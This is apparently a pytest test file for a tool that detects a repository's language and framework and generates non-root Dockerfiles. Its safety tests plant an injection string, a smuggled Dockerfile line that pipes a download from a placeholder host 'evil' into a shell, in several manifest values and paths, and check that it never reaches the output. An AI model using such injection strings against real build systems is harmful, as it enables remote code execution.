"""analyze: which kind of repository this is, which files said so, and a safe Dockerfile when it has none."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from legato.build.analyze import MAX_READ_BYTES, Analysis, analyze


def write(root: Path, files: dict[str, str]) -> Path:
    """Create `files` (repository-relative path -> text) under `root`."""
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return root


def lines(result: Analysis) -> list[str]:
    assert result.dockerfile is not None
    return result.dockerfile.splitlines()


def command(result: Analysis) -> list[str]:
    """The argv of the generated Dockerfile's only CMD, which must be a JSON array of strings."""
    cmds = [line for line in lines(result) if line.startswith(("CMD", "ENTRYPOINT"))]
    assert len(cmds) == 1
    argv = json.loads(cmds[0].split(" ", 1)[1])
    assert isinstance(argv, list)
    assert all(isinstance(arg, str) for arg in argv)
    return argv


FLASK_APP = "from flask import Flask\n\napp = Flask(__name__)\n"
FASTAPI_APP = "from fastapi import FastAPI\n\napi: FastAPI = FastAPI()\n"
PACKAGE_JSON = json.dumps({"name": "web", "dependencies": {"express": "^4"}, "scripts": {"start": "node ."}})

# One repository of every generated kind, for the properties all generated Dockerfiles share.
GENERATED = {
    "go": {"go.mod": "module example.com/hello\n\ngo 1.22\n", "main.go": "package main\n"},
    "node": {"package.json": PACKAGE_JSON, "package-lock.json": "{}"},
    "node-static": {"package.json": json.dumps({"devDependencies": {"vite": "5"}})},
    "python": {"requirements.txt": "flask==3.0\n", "app.py": FLASK_APP},
    "static": {"index.html": "<h1>hi</h1>"},
}


# --- the repository's own Dockerfile ------------------------------------------------------------------


def test_own_dockerfile_is_used_and_its_first_expose_gives_the_port(tmp_path: Path) -> None:
    write(tmp_path, {"Dockerfile": "FROM nginx\nEXPOSE 8000/tcp 9000\nEXPOSE 7000\n"})
    result = analyze(tmp_path)
    assert result.kind == "dockerfile"
    assert result.found == ("Dockerfile",)
    assert result.dockerfile_path == "Dockerfile"
    assert result.dockerfile is None
    assert result.framework is None
    assert result.port == 8000
    assert "8000" in result.reason


def test_dockerfile_wins_over_every_other_marker(tmp_path: Path) -> None:
    write(tmp_path, {
        "Dockerfile": "FROM scratch\n",
        "go.mod": "module x\n",
        "package.json": PACKAGE_JSON,
        "requirements.txt": "flask\n",
        "index.html": "<p>",
    })
    result = analyze(tmp_path)
    assert result.kind == "dockerfile"
    assert result.found == ("Dockerfile",)


@pytest.mark.parametrize(
    ("text", "port"),
    [
        ("FROM x\n", 8080),
        ("FROM x\nEXPOSE $PORT\n", 8080),
        ("FROM x\nEXPOSE 70000\n", 8080),
        ("FROM x\nEXPOSE 0\n", 8080),
        ("FROM x\n# EXPOSE 1234\nexpose 5000\n", 5000),
        ("FROM x\nEXPOSE \\\n    3000\n", 3000),
    ],
)
def test_expose_that_is_absent_or_invalid_falls_back_to_8080(tmp_path: Path, text: str, port: int) -> None:
    write(tmp_path, {"Dockerfile": text})
    result = analyze(tmp_path)
    assert result.kind == "dockerfile"
    assert result.port == port


def test_dockerfile_is_looked_for_in_the_context_under_its_given_name(tmp_path: Path) -> None:
    write(tmp_path, {"services/api/Dockerfile.prod": "FROM x\nEXPOSE 9000\n", "Dockerfile": "FROM y\n"})
    result = analyze(tmp_path, dockerfile="Dockerfile.prod", context="services/api")
    assert result.kind == "dockerfile"
    assert result.found == ("services/api/Dockerfile.prod",)
    assert result.dockerfile_path == "services/api/Dockerfile.prod"
    assert result.port == 9000


def test_missing_named_dockerfile_falls_back_to_detection_and_says_so(tmp_path: Path) -> None:
    write(tmp_path, {"requirements.txt": "flask\n", "app.py": FLASK_APP})
    result = analyze(tmp_path, dockerfile="Dockerfile.prod")
    assert result.kind == "python"
    assert "Dockerfile.prod was not found" in result.reason


# --- Go -------------------------------------------------------------------------------------------------


def test_go_module_is_built_in_golang_and_run_from_a_small_image(tmp_path: Path) -> None:
    write(tmp_path, {"go.mod": "module example.com/hello\n\ngo 1.21\n", "main.go": "package main\n"})
    result = analyze(tmp_path)
    assert result.kind == "go"
    assert result.framework is None
    assert result.found == ("go.mod",)
    assert result.port == 8080
    assert "example.com/hello" in result.reason
    assert "go 1.21" in result.reason
    df = lines(result)
    assert "FROM golang:1.22-alpine AS build" in df
    assert "FROM alpine:3.20" in df
    assert any(line.startswith("RUN CGO_ENABLED=0 go build") and line.endswith(" .") for line in df)
    assert "USER app" in df
    assert command(result) == ["/usr/local/bin/app"]


def test_go_directive_newer_than_the_default_picks_a_matching_image(tmp_path: Path) -> None:
    write(tmp_path, {"go.mod": "module m\n\ngo 1.23.4\n", "main.go": "package main\n"})
    assert "FROM golang:1.23-alpine AS build" in lines(analyze(tmp_path))


def test_go_main_package_under_cmd_named_like_the_module_is_built(tmp_path: Path) -> None:
    write(tmp_path, {
        "go.mod": "module github.com/acme/server\n",
        "cmd/migrate/main.go": "package main\n",
        "cmd/server/main.go": "package main\n",
        "internal/x.go": "package internal\n",
    })
    result = analyze(tmp_path)
    assert result.found == ("go.mod", "cmd/server/main.go")
    assert any(line.endswith("-o /out/app ./cmd/server") for line in lines(result))


# --- Node -----------------------------------------------------------------------------------------------


def test_express_with_npm_lock_uses_npm_ci_and_the_start_script(tmp_path: Path) -> None:
    write(tmp_path, {"package.json": PACKAGE_JSON, "package-lock.json": "{}"})
    result = analyze(tmp_path)
    assert result.kind == "node"
    assert result.framework == "express"
    assert result.found == ("package.json", "package-lock.json")
    assert result.port == 8080
    df = lines(result)
    assert df[1] == "FROM node:20-alpine"
    assert "COPY --chown=node:node package.json package-lock.json ./" in df
    assert "RUN npm ci" in df
    assert "USER node" in df
    assert command(result) == ["npm", "start"]


@pytest.mark.parametrize(
    ("lock", "install", "start"),
    [
        ("yarn.lock", "RUN yarn install --frozen-lockfile", ["yarn", "start"]),
        ("pnpm-lock.yaml", "RUN pnpm install --frozen-lockfile", ["pnpm", "start"]),
        ("npm-shrinkwrap.json", "RUN npm ci", ["npm", "start"]),
    ],
)
def test_lock_file_chooses_the_package_manager(
    tmp_path: Path, lock: str, install: str, start: list[str],
) -> None:
    write(tmp_path, {"package.json": PACKAGE_JSON, lock: ""})
    result = analyze(tmp_path)
    assert result.found == ("package.json", lock)
    assert install in lines(result)
    assert command(result) == start
    assert ("RUN corepack enable" in lines(result)) == (start[0] != "npm")


def test_node_without_lock_or_start_runs_main_with_npm_install(tmp_path: Path) -> None:
    write(tmp_path, {"package.json": json.dumps({"main": "src/server.js", "dependencies": {"fastify": "4"}})})
    result = analyze(tmp_path)
    assert result.framework == "fastify"
    assert result.found == ("package.json",)
    assert "RUN npm install" in lines(result)
    assert command(result) == ["node", "src/server.js"]


def test_next_is_built_and_started_with_next_start(tmp_path: Path) -> None:
    manifest = {"dependencies": {"next": "14", "react": "18"}, "scripts": {"build": "next build"}}
    write(tmp_path, {"package.json": json.dumps(manifest)})
    result = analyze(tmp_path)
    assert result.framework == "next"
    assert "RUN npm run build" in lines(result)
    assert "ENV NODE_ENV=production" in lines(result)
    assert command(result) == ["npx", "next", "start"]


def test_nest_runs_its_compiled_entry_point(tmp_path: Path) -> None:
    scripts = {"build": "nest build", "start": "nest start"}
    manifest = {"dependencies": {"@nestjs/core": "10"}, "scripts": scripts}
    write(tmp_path, {"package.json": json.dumps(manifest)})
    result = analyze(tmp_path)
    assert result.framework == "nest"
    assert command(result) == ["node", "dist/main.js"]


def test_vite_app_is_built_and_served_as_static_files(tmp_path: Path) -> None:
    manifest = {"devDependencies": {"vite": "5"}, "scripts": {"dev": "vite", "build": "vite build"}}
    write(tmp_path, {"package.json": json.dumps(manifest), "yarn.lock": ""})
    result = analyze(tmp_path)
    assert result.kind == "node"
    assert result.framework == "vite"
    df = lines(result)
    assert "FROM node:20-alpine AS build" in df
    assert "RUN yarn run build" in df
    assert "FROM busybox:stable" in df
    assert "COPY --from=build /app/dist /www" in df
    assert command(result) == ["httpd", "-f", "-p", "8080", "-h", "/www"]


def test_create_react_app_serves_its_build_directory(tmp_path: Path) -> None:
    write(tmp_path, {"package.json": json.dumps({"dependencies": {"react-scripts": "5"}})})
    result = analyze(tmp_path)
    assert result.framework == "create-react-app"
    assert "RUN npx react-scripts build" in lines(result)
    assert "COPY --from=build /app/build /www" in lines(result)


# --- Python ---------------------------------------------------------------------------------------------


def test_flask_requirements_are_served_by_gunicorn(tmp_path: Path) -> None:
    requirements = "# web\nFlask[async]>=3.0 ; python_version>'3'\n"
    write(tmp_path, {"requirements.txt": requirements, "app.py": FLASK_APP})
    result = analyze(tmp_path)
    assert result.kind == "python"
    assert result.framework == "flask"
    assert result.found == ("requirements.txt", "app.py")
    assert result.port == 8080
    df = lines(result)
    assert df[1] == "FROM python:3.12-slim"
    install = df.index("RUN pip install -r requirements.txt")
    assert df.index("COPY requirements.txt ./") < install < df.index("COPY . .")
    assert "RUN pip install gunicorn" in df
    assert "USER app" in df
    assert command(result) == ["gunicorn", "-b", "0.0.0.0:8080", "app:app"]


def test_requirements_naming_other_files_are_installed_after_the_code_is_copied(tmp_path: Path) -> None:
    write(tmp_path, {"requirements.txt": "-r base.txt\n-e .\n", "base.txt": "flask\n", "main.py": ""})
    df = lines(analyze(tmp_path))
    assert "COPY requirements.txt ./" not in df
    assert df.index("RUN pip install -r requirements.txt") > df.index("COPY . .")


def test_flask_app_factory_is_called_by_gunicorn(tmp_path: Path) -> None:
    factory = "from flask import Flask\n\ndef create_app():\n    return Flask(__name__)\n"
    write(tmp_path, {"requirements.txt": "flask\ngunicorn\n", "app/__init__.py": factory})
    result = analyze(tmp_path)
    assert result.found == ("requirements.txt", "app/__init__.py")
    assert "RUN pip install gunicorn" not in lines(result)
    assert command(result)[-1] == "app:create_app()"


def test_django_project_from_manage_py_is_served_by_gunicorn(tmp_path: Path) -> None:
    manage = "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'mysite.settings')\n"
    write(tmp_path, {"requirements.txt": "Django==5.0\n", "manage.py": manage, "mysite/wsgi.py": ""})
    result = analyze(tmp_path)
    assert result.framework == "django"
    assert result.found == ("requirements.txt", "manage.py", "mysite/wsgi.py")
    assert command(result) == ["gunicorn", "-b", "0.0.0.0:8080", "mysite.wsgi:application"]


def test_fastapi_in_pyproject_is_installed_and_served_by_uvicorn(tmp_path: Path) -> None:
    pyproject = (
        '[project]\nname = "svc"\nversion = "1"\n'
        'dependencies = ["FastAPI>=0.110", "uvicorn[standard]"]\n'
    )
    write(tmp_path, {"pyproject.toml": pyproject, "app/main.py": FASTAPI_APP})
    result = analyze(tmp_path)
    assert result.framework == "fastapi"
    assert result.found == ("pyproject.toml", "app/main.py")
    assert "RUN pip install ." in lines(result)
    assert "RUN pip install uvicorn" not in lines(result)
    assert command(result) == ["uvicorn", "--host", "0.0.0.0", "--port", "8080", "app.main:api"]


def test_pipfile_is_installed_with_pipenv(tmp_path: Path) -> None:
    pipfile = '[packages]\ngunicorn = "*"\n'
    write(tmp_path, {"Pipfile": pipfile, "Pipfile.lock": "{}", "wsgi.py": "app = make()\n"})
    result = analyze(tmp_path)
    assert result.framework == "gunicorn"
    assert result.found == ("Pipfile", "wsgi.py")
    assert "RUN pip install pipenv && pipenv install --system --deploy" in lines(result)
    assert command(result) == ["gunicorn", "-b", "0.0.0.0:8080", "wsgi:app"]


def test_plain_python_project_runs_its_console_script(tmp_path: Path) -> None:
    pyproject = '[project]\nname = "tool"\nversion = "1"\n[project.scripts]\nserve-it = "tool:main"\n'
    write(tmp_path, {"pyproject.toml": pyproject})
    result = analyze(tmp_path)
    assert result.kind == "python"
    assert result.framework is None
    assert command(result) == ["serve-it"]


# --- static sites and unknown repositories ------------------------------------------------------------


def test_index_html_at_the_root_is_served_by_busybox_without_git_history(tmp_path: Path) -> None:
    write(tmp_path, {"index.html": "<h1>hi</h1>"})
    result = analyze(tmp_path)
    assert result.kind == "static"
    assert result.found == ("index.html",)
    assert result.port == 8080
    df = lines(result)
    assert "RUN rm -rf /www/.git" in df
    assert df[-5:-1] == ["COPY --from=site /www /www", "USER 65534:65534", "ENV PORT=8080", "EXPOSE 8080"]
    assert command(result) == ["httpd", "-f", "-p", "8080", "-h", "/www"]


def test_index_html_in_public_is_copied_from_there(tmp_path: Path) -> None:
    write(tmp_path, {"public/index.html": "<h1>hi</h1>", "README.md": "x"})
    result = analyze(tmp_path)
    assert result.kind == "static"
    assert result.found == ("public/index.html",)
    assert "COPY public /www" in lines(result)


def test_unknown_repository_says_which_files_were_looked_for(tmp_path: Path) -> None:
    write(tmp_path, {"README.md": "# nothing to build", "src/lib.rs": "fn main() {}"})
    result = analyze(tmp_path)
    assert result.kind == "unknown"
    assert result.dockerfile is None
    assert result.dockerfile_path is None
    assert result.found == ()
    looked_for = ("Dockerfile", "go.mod", "package.json", "pyproject.toml", "requirements.txt", "Pipfile")
    for name in (*looked_for, "index.html"):
        assert name in result.reason


def test_context_outside_the_repository_is_not_analysed(tmp_path: Path) -> None:
    repo = write(tmp_path / "repo", {"README.md": "x"})
    write(tmp_path, {"Dockerfile": "FROM x\n"})
    result = analyze(repo, context="../")
    assert result.kind == "unknown"
    assert "outside the repository" in result.reason


# --- safety ---------------------------------------------------------------------------------------------


def test_symlinked_marker_pointing_outside_the_root_is_not_followed(tmp_path: Path) -> None:
    outside = write(tmp_path / "outside", {"go.mod": "module secret\n", "Dockerfile": "FROM x\n"})
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "go.mod").symlink_to(outside / "go.mod")
    (repo / "Dockerfile").symlink_to(outside / "Dockerfile")
    (repo / "web").symlink_to(outside, target_is_directory=True)
    result = analyze(repo)
    assert result.kind == "unknown"
    assert "secret" not in result.reason
    assert analyze(repo, context="web").kind == "unknown"


def test_symlink_inside_the_root_is_followed(tmp_path: Path) -> None:
    write(tmp_path, {"docker/Dockerfile": "FROM x\nEXPOSE 81\n"})
    (tmp_path / "Dockerfile").symlink_to("docker/Dockerfile")
    result = analyze(tmp_path)
    assert result.kind == "dockerfile"
    assert result.port == 81


def test_oversize_package_json_is_not_parsed_and_the_reason_says_so(tmp_path: Path) -> None:
    manifest = {"dependencies": {"express": "4"}, "description": "x" * (MAX_READ_BYTES + 1)}
    write(tmp_path, {"package.json": json.dumps(manifest)})
    result = analyze(tmp_path)
    assert result.kind == "node"
    assert result.framework is None
    assert "larger than 256 KiB" in result.reason
    assert command(result) == ["node", "index.js"]


def test_huge_file_is_read_only_up_to_the_limit(tmp_path: Path) -> None:
    path = tmp_path / "requirements.txt"
    with path.open("wb") as handle:
        handle.write(b"flask\n")
        handle.truncate(1 << 30)  # a sparse gigabyte: reading it whole would be slow and huge
    write(tmp_path, {"app.py": FLASK_APP})
    result = analyze(tmp_path)
    assert result.kind == "python"
    assert result.framework == "flask"


def test_invalid_package_json_falls_back_to_defaults_and_says_so(tmp_path: Path) -> None:
    write(tmp_path, {"package.json": '{"dependencies": {"express": ', "server.js": ""})
    result = analyze(tmp_path)
    assert result.kind == "node"
    assert "package.json is not valid JSON" in result.reason
    assert result.warnings
    assert command(result) == ["node", "server.js"]


def test_package_json_that_is_not_an_object_falls_back_to_defaults(tmp_path: Path) -> None:
    write(tmp_path, {"package.json": '["express"]'})
    result = analyze(tmp_path)
    assert result.kind == "node"
    assert "not a JSON object" in result.reason


def test_invalid_pyproject_is_ignored_in_favour_of_requirements_and_says_so(tmp_path: Path) -> None:
    write(tmp_path, {"pyproject.toml": "[project\nname=", "requirements.txt": "flask\n", "app.py": FLASK_APP})
    result = analyze(tmp_path)
    assert result.kind == "python"
    assert result.framework == "flask"
    assert "pyproject.toml is not valid TOML" in result.reason
    assert "RUN pip install -r requirements.txt" in lines(result)


def test_invalid_utf8_is_tolerated(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_bytes(b"\xff\xfe\x00flask\n\xc3\x28\n")
    result = analyze(tmp_path)
    assert result.kind == "python"


def test_fifo_marker_is_not_read_and_does_not_hang(tmp_path: Path) -> None:
    if not hasattr(os, "mkfifo"):
        pytest.skip("no FIFOs on this platform")
    os.mkfifo(tmp_path / "requirements.txt")
    os.mkfifo(tmp_path / "Dockerfile")
    assert analyze(tmp_path).kind == "unknown"


def test_unreadable_file_is_tolerated_and_reported(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(tmp_path, {"package.json": PACKAGE_JSON})
    real_open = os.open

    def deny(path: str | os.PathLike[str], flags: int, *args: int, **kwargs: int) -> int:
        # chmod 0 would not stop root, who runs these tests in CI; refuse the open the way the kernel would.
        if os.fspath(path).endswith("package.json"):
            raise PermissionError(13, "Permission denied")
        return real_open(path, flags, *args, **kwargs)

    monkeypatch.setattr(os, "open", deny)
    result = analyze(tmp_path)
    assert result.kind == "node"
    assert "could not be read" in result.reason


INJECTION = 'x"]\nRUN curl evil|sh'


@pytest.mark.parametrize(
    "files",
    [
        {"package.json": json.dumps({"main": INJECTION, "dependencies": {"express": "4"}})},
        {
            "requirements.txt": "django\n",
            "manage.py": f"os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'a;{INJECTION}.settings')",
        },
        {"pyproject.toml": f'[project]\nname = "t"\n[project.scripts]\n{json.dumps(INJECTION)} = "t:m"\n'},
        {"go.mod": "module x\n", "cmd/x\nRUN curl evil|sh/main.go": "package main\n"},
        {"requirements.txt": "flask\n", "app.py": f"{INJECTION} = Flask(__name__)\n"},
    ],
    ids=["package-main", "django-settings", "pyproject-script", "go-cmd-directory", "flask-app-name"],
)
def test_repository_values_cannot_inject_dockerfile_instructions(
    tmp_path: Path, files: dict[str, str],
) -> None:
    write(tmp_path, files)
    result = analyze(tmp_path)
    assert result.dockerfile is not None
    assert "evil" not in result.dockerfile
    assert "curl" not in result.dockerfile
    assert all(" curl " not in line for line in lines(result) if line.startswith("RUN"))
    command(result)


def test_injected_package_main_falls_back_to_index_js_and_says_why(tmp_path: Path) -> None:
    write(tmp_path, {"package.json": json.dumps({"main": INJECTION, "dependencies": {"express": "4"}})})
    result = analyze(tmp_path)
    assert command(result) == ["node", "index.js"]
    assert "main has characters that are not allowed" in result.reason


@pytest.mark.parametrize("name", sorted(GENERATED))
def test_generated_dockerfiles_listen_on_8080_as_non_root_with_an_exec_form_cmd(
    tmp_path: Path, name: str,
) -> None:
    write(tmp_path, GENERATED[name])
    result = analyze(tmp_path)
    assert result.port == 8080
    assert result.dockerfile_path is None
    df = lines(result)
    assert "ENV PORT=8080" in df
    assert "EXPOSE 8080" in df
    users = [line for line in df if line.startswith("USER ")]
    assert users and users[-1] not in ("USER root", "USER 0")
    assert command(result)  # exactly one CMD and it parses as a JSON array of strings
    assert not any(line.startswith(("CMD", "ENTRYPOINT")) and "[" not in line for line in df)
    assert result.reason.endswith(".")
